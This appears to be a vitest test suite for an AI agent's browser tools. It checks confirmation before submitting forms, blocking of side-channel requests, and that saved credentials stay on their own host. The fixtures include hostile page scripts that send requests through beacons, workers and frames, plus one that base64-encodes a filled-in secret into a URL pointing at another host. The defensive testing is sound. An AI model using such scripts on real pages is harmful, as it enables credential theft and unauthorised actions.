import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text as readText } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { contextFor, runIn } from '../testing/context.ts';
import { FakeSandbox } from '../testing/fake-sandbox.ts';
import { type Tool, ToolError } from '../tool.ts';
import { wordingFor } from '../wording.ts';
import { browserTools } from './browser.ts';
import { BrowserSession } from './session.ts';

const SECRET = 'correct horse battery staple';
const words = wordingFor('en');
const received: string[] = [];
let pages: Record<string, string> = {};

async function answer(request: IncomingMessage): Promise<string> {
  const body = await readText(request);
  received.push(`${request.method} ${request.url} ${body}`.trim());
  return pages[request.url ?? ''] ?? '<p>Thank you.';
}

const serve = async (): Promise<Server> => {
  const server = createServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    void answer(request).then((page) => response.end(page));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
};
const hostOf = (server: Server) => `127.0.0.1:${(server.address() as AddressInfo).port}`;

const sandbox = await FakeSandbox.create();
const [site, elsewhere] = [await serve(), await serve()];
const host = hostOf(site);
beforeAll(async () => void (await sandbox.browser()));
afterAll(async () => {
  await sandbox.dispose();
  for (const server of [site, elsewhere]) server.close();
});

let session = new BrowserSession();
const secret = async (name: string, to: string | null) => {
  if (name === 'shop-login' && (to === host || to === null)) return SECRET;
  throw new ToolError(`The credential "${name}" may not be sent to ${to}.`);
};
const context = contextFor({ sandbox: async () => sandbox, secret });

beforeEach(async () => {
  await session.close();
  session = new BrowserSession();
  received.length = 0;
  pages = {};
});

const named = (name: string): Tool => {
  const tool = browserTools(session, words).find((tool) => tool.name === name);
  if (tool === undefined) throw new Error(`No tool ${name}.`);
  return tool;
};
const use = (name: string, input: unknown = {}) => runIn(named(name), input, context);
const summary = (ref: string) => named('browser_submit').summary({ ref }, context);
const submit = async (ref: string) => {
  await summary(ref);
  return named('browser_submit').run({ ref }, context);
};
const open = async (html: string) => {
  pages['/'] = html;
  return (await use('browser_open', { url: `http://${host}/` })).text;
};
/** The reference of the element whose line contains this. */
const refOf = (page: string, line: string) =>
  page
    .split('\n')
    .find((each) => each.includes(line))
    ?.match(/\[ref=(\w+)\]/)?.[1] ?? `no ${line}`;
const changes = () => received.filter((line) => !/^(GET|HEAD|OPTIONS) /.test(line));

const SIDE_DOORS = `fetch('/x', { method: 'POST' }); navigator.sendBeacon('/x');
  new WebSocket('ws://' + location.host + '/x'); document.title = typeof Worker`;

const ORDER = `<title>Order</title><label>Elsewhere <input value="of no concern"></label><form method="post" action="/order">
  <label>Name <input name="name"></label><label>Key <input name="key"></label>
  <label>Size <select name="size"><option>Small</option><option>Large</option></select></label>
  <label><input type="checkbox" name="gift"> Gift</label>
  <label>Password <input type="password" name="password"></label><button>Order now</button></form>`;

it('opens a page, follows a link and reads what is there', async () => {
  pages['/hours'] = '<p>Open until six.';
  const page = await open('<h1>Shop</h1><a href="/hours">Hours</a>');
  expect(page).toContain('heading "Shop"');
  const { text } = await use('browser_click', { ref: refOf(page, '"Hours"') });
  expect(text).toContain('Open until six.');
  expect((await use('browser_read')).text).toContain('Open until six.');
});

it('sends a filled form only by submit, asking with what it holds, secrets by name', async () => {
  const page = await open(ORDER);
  const button = refOf(page, '"Order now"');
  await use('browser_fill', { ref: refOf(page, '"Name"'), value: 'Ada' });
  await use('browser_fill', { ref: refOf(page, '"Size"'), value: 'Large' });
  await use('browser_fill', { ref: refOf(page, '"Gift"'), value: 'true' });
  await use('browser_fill', { ref: refOf(page, '"Key"'), credential: 'shop-login' });
  await use('browser_fill', { ref: refOf(page, '"Password"'), value: 'hunter22' });
  const clicked = await use('browser_click', { ref: button });
  expect(clicked.text).toContain('Not let through');
  expect(changes()).toEqual([]);
  expect(await summary(button)).toBe(
    `Shall I press "Order now" on ${host}, with Name: Ada, Key: the saved shop-login, Size: Large, Gift: yes, Password: the password?`,
  );
  expect(await submit(button)).toContain('Thank you.');
  const key = SECRET.replaceAll(' ', '+');
  expect(changes()).toEqual([
    `POST /order name=Ada&key=${key}&size=Large&gift=on&password=hunter22`,
  ]);
});

it.each([
  ['a request', `fetch('/x', { method: 'POST' })`],
  [
    'a request as the page is left',
    `addEventListener('pagehide', () => fetch('/x', { method: 'POST', keepalive: true }))`,
  ],
  ['a beacon', `navigator.sendBeacon('/x')`],
  [
    'a beacon as the page is left',
    `addEventListener('pagehide', () => navigator.sendBeacon('/x'))`,
  ],
  ['an old request', `const x = new XMLHttpRequest(); x.open('PUT', '/x'); x.send()`],
  [
    'a form of its own',
    `const f = document.createElement('form'); f.method = 'post'; f.action = '/x'; document.body.append(f); f.submit()`,
  ],
  [
    'a form in a frame',
    `const i = document.createElement('iframe'); i.srcdoc = '<form method=post action=/x></form><script>document.forms[0].submit()</' + 'script>'; document.body.append(i)`,
  ],
  [
    'a worker',
    `new Worker(URL.createObjectURL(new Blob(["fetch('" + location.origin + "/x', { method: 'POST' })"])))`,
  ],
  ['another window', `open('/y').fetch('/x', { method: 'POST' })`],
  [
    'a fresh frame',
    `const i = document.createElement('iframe'); document.body.append(i); i.contentWindow.fetch('/x', { method: 'DELETE' })`,
  ],
])('lets a page that was opened or clicked change nothing by %s', async (_, script) => {
  const page = await open(`<body><a href="/next">Next</a><button onclick="${'go()'}">Go</button>
    <script>function go() { ${script} } go()</script>`);
  await use('browser_click', { ref: refOf(page, '"Go"') });
  await use('browser_open', { url: `http://${host}/next` });
  expect(changes()).toEqual([]);
});

it('lets a page that was prepared change nothing, and gives it to one task alone', async () => {
  await sandbox.preparePage(context.agent.language);
  const prepared = (await sandbox.browser()).contexts();
  expect(await open(`<script>${SIDE_DOORS}</script>`)).toContain('Title: undefined');
  expect((await sandbox.browser()).contexts()).toEqual(prepared);
  await session.close();
  expect((await sandbox.browser()).contexts()).toEqual([]);
  expect(await open(`<script>${SIDE_DOORS}</script>`)).toContain('Title: undefined');
  expect(new Set(received)).toEqual(new Set(['GET /']));
});

it('opens no connection that messages could change something over', async () => {
  const upgrades: string[] = [];
  site.once('upgrade', (request, socket) => {
    upgrades.push(request.url ?? '');
    socket.destroy();
  });
  await open(`<body><script>new WebSocket('ws://${host}/socket')</script>`);
  expect(upgrades).toEqual([]);
  site.removeAllListeners('upgrade');
});

it('lets a confirmed change through to the page itself alone, and nothing after it', async () => {
  const page = await open(`<button onclick="send()">Send</button><script>
    function send() { fetch('/own', { method: 'POST' });
      fetch('http://${hostOf(elsewhere)}/other', { method: 'POST', mode: 'no-cors' }) }</script>`);
  const button = refOf(page, '"Send"');
  await submit(button);
  expect(changes()).toEqual(['POST /own']);
  await use('browser_click', { ref: button });
  expect(changes()).toEqual(['POST /own']);
});

it('lets no other tool act, that is called at the same time, while a change is let through', async () => {
  const page = await open(`<button onclick="fetch('/one', { method: 'POST' })">One</button>
    <button onclick="fetch('/two', { method: 'POST' })">Two</button>`);
  const ref = refOf(page, '"One"');
  await summary(ref);
  const one = named('browser_submit').run({ ref }, context);
  await vi.waitFor(() => expect(changes()).toEqual(['POST /one']));
  await Promise.all([one, use('browser_click', { ref: refOf(page, '"Two"') })]);
  expect(changes()).toEqual(['POST /one']);
});

it('sends nothing when the form was changed after the caller was asked', async () => {
  const page = await open(ORDER);
  const button = refOf(page, '"Order now"');
  await summary(button);
  await use('browser_fill', { ref: refOf(page, '"Name"'), value: 'Mallory' });
  await expect(named('browser_submit').run({ ref: button }, context)).rejects.toThrow('changed');
  expect(changes()).toEqual([]);
});

it('fills a credential in on its own host alone', async () => {
  pages['/'] = ORDER;
  const { text } = await use('browser_open', { url: `http://${hostOf(elsewhere)}/` });
  const outcome = await use('browser_fill', {
    ref: refOf(text, '"Key"'),
    credential: 'shop-login',
  });
  expect(outcome).toMatchObject({ failed: true });
  expect(outcome.text).toContain('may not be sent');
});

it('does not let a page carry a filled-in secret to another host', async () => {
  const away = `http://${hostOf(elsewhere)}`;
  const page = await open(`<form action="${away}/steal"><label>Key <input name="key"></label>
    <button>Search</button></form>
    <a href="#" onclick="location.href = '${away}/?' + btoa(document.forms[0].key.value)">More</a>`);
  await use('browser_fill', { ref: refOf(page, '"Key"'), credential: 'shop-login' });
  await use('browser_click', { ref: refOf(page, '"Search"') });
  await use('browser_click', { ref: refOf(page, '"More"') });
  expect(received.filter((line) => line.includes('?'))).toEqual([]);
});

it('keeps a picture, and none that shows a secret', async () => {
  const page = await open(`${ORDER}<button onclick="out.textContent = document.forms[0].key.value">
    Show</button><p id="out"></p>`);
  await use('browser_fill', { ref: refOf(page, '"Key"'), credential: 'shop-login' });
  const kept = await use('browser_screenshot', { path: 'page.png' });
  expect(kept.text).toContain('page.png');
  const { content } = await sandbox.readFile('page.png', 8);
  expect(Buffer.from(content).toString('latin1')).toContain('PNG');
  await use('browser_click', { ref: refOf(page, '"Show"') });
  expect(await use('browser_screenshot')).toMatchObject({ failed: true });
});

it('sends nothing from within a frame', async () => {
  const page = await open(`<iframe srcdoc="<button>Inside</button>"></iframe>`);
  await expect(summary(refOf(page, '"Inside"'))).rejects.toThrow('in a frame');
});

it('says what is not there', async () => {
  expect((await use('browser_read')).text).toContain('no page open');
  await open('<p>Empty.');
  expect((await use('browser_click', { ref: 'e99' })).text).toContain('no "e99"');
  const unreachable = await use('browser_open', { url: 'http://127.0.0.1:1/' });
  expect(unreachable.text).toContain('ERR_');
});

it('asks for nothing that cannot be read out', async () => {
  const page = await open(ORDER);
  await use('browser_fill', { ref: refOf(page, '"Name"'), value: 'x'.repeat(2_000) });
  await expect(summary(refOf(page, '"Order now"'))).rejects.toThrow('more than can be read out');
});
